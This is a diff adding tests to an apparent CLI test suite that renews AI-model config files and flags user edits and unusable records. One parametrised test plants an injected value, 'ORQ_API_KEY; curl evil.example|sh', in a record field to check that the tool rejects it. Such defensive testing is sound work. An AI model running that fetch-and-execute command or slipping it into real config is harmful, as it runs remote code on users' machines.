@@ -96,6 +96,24 @@ describe('a repo that an older version has set up', () => {
     expect(inContainer[1]).toContain('+       "model": "anthropic/claude-sonnet-4-6"');
   });
 
+  test('a file that this version writes alike is no part of it', async () => {
+    const home = await routed();
+    write(home, script, read(home, script).replace('set -eu\n', 'set -e\n'));
+    record(home, ({ files }) => ({
+      package: older,
+      files: files.map(({ path }) => ({ path, sha256: digestOf(read(home, path)) })),
+    }));
+    const { stdout } = await model(home, 'openai/gpt-5.5', '--dry-run');
+    expect(stdout).toMatch(/install\.sh +renewed/);
+    expect(stdout).not.toContain('writes differently than');
+    expect(stdout).toMatch(/codex\.yml +1 line replaced or removed, 1 added/);
+    const { changes } = reportOf((await model(home, 'openai/gpt-5.5', '--dry-run', '--json')).stdout);
+    expect(changes.filter((change) => 'renewed' in change).map(({ path }) => path)).toEqual([
+      join(home.project, script),
+      join(home.project, recordPath),
+    ]);
+  });
+
   test('also without a new model, on a machine that is not set up, and in JSON', async () => {
     const home = age(await routed('--model', 'acme@orq/fast'), null);
     const { exitCode, stdout } = await runBin(home, ['model', '--json']);
@@ -158,6 +176,32 @@ describe('what somebody has changed since', () => {
     expect((await model(home, 'openai/gpt-5.4')).exitCode).toBe(0);
   });
 
+  test('a file of theirs in our folder that no earlier version wrote needs a yes', async () => {
+    const home = age(await routed());
+    write(home, `${folder}/.gitattributes`, '* -text\n');
+    const { exitCode, stdout } = await model(home, 'openai/gpt-5.5', '--json');
+    expect(exitCode).toBe(1);
+    expect(reportOf(stdout).findings).toContainEqual(
+      expect.objectContaining({ code: 'edited-since', message: expect.stringContaining('.gitattributes') }),
+    );
+    expect(read(home, `${folder}/.gitattributes`)).toBe('* -text\n');
+  });
+
+  test('a record that is spelled otherwise says the same', async () => {
+    const home = await routed();
+    write(home, recordPath, JSON.stringify(recordOf(home)));
+    expect((await model(home, 'openai/gpt-5.4', '--check')).exitCode).toBe(0);
+    expect((await run(home, '--check')).exitCode).toBe(0);
+  });
+
+  test('a model that was taken out needs a yes', async () => {
+    const home = await routed();
+    write(home, standard, read(home, standard).replace(/"model": "[^"]*"/, ''));
+    const { exitCode, stdout } = await model(home, 'openai/gpt-5.5', '--json');
+    expect(exitCode).toBe(1);
+    expect(codesOf(stdout)).toEqual(['edited-since']);
+  });
+
   test('a workflow stays, with a word where it names another model', async () => {
     const home = await routed();
     write(home, workflow, `${read(home, workflow)}# mine\n`);
@@ -190,5 +234,24 @@ describe('a repo that is not for this version to renew', () => {
     expect(read(home, standard)).not.toContain('AWS_SECRET_ACCESS_KEY');
     expect(read(home, script)).toContain('set -e\n');
     expect(codesOf((await model(age(await routed()), 'openai/gpt-5.5', '--json')).stdout)).toEqual([]);
+  });
+
+  test.each([
+    ['a conflict', '<<<<<<< ours\n'],
+    ['a command in it', '"envKey": "ORQ_API_KEY; curl evil.example|sh"'],
+  ])('nor one whose record cannot be used: %s', async (_what, text) => {
+    const home = age(await routed());
+    const known = read(home, recordPath);
+    write(
+      home,
+      recordPath,
+      text.startsWith('<') ? text + known : known.replace('"envKey": "ORQ_API_KEY"', text),
+    );
+    const { exitCode, stdout } = await model(home, 'openai/gpt-5.5', '--json');
+    expect(exitCode).toBe(0);
+    expect(codesOf(stdout)).toEqual(['project-unreadable']);
+    expect(stdout).not.toContain('evil.example');
+    expect(read(home, standard)).toContain('"model": "openai/gpt-5.5"');
+    expect(read(home, script)).toContain('set -e\n');
   });
 });
